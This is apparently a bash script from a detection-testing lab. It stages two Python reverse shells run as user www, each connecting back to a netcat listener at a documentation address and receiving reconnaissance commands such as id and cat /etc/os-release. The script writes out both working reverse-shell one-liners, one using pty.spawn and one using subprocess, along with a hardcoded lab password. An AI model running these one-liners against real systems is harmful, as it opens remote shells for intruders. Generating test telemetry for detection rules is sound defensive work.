# www runs a Python one-liner: connect, dup2 the socket onto 0, 1 and 2, start a shell on a terminal of its own (pty.spawn).
# A second one gives the socket to subprocess as the standard streams, without a terminal.
# rules: recording
# format: ENRICHED
# node: app-04
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

owner_types() { for line in id hostname 'cat /etc/os-release' exit; do sleep 1; echo "$line"; done; }

{ sleep 4; owner_types; } | timeout 20 ip netns exec audit-lab nc -l "$source_ip" 9001 & listener=$!
until_listening 9001 outside
from "$source_ip" www www-Passw0rd "timeout 15 python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$source_ip\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
wait $listener || true

{ sleep 4; owner_types; } | timeout 20 ip netns exec audit-lab nc -l "$source_ip" 9002 & listener=$!
until_listening 9002 outside
from "$source_ip" www www-Passw0rd "timeout 15 python3 -c 'import socket,subprocess;s=socket.create_connection((\"$source_ip\",9002));subprocess.call([\"/bin/sh\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'"
wait $listener || true
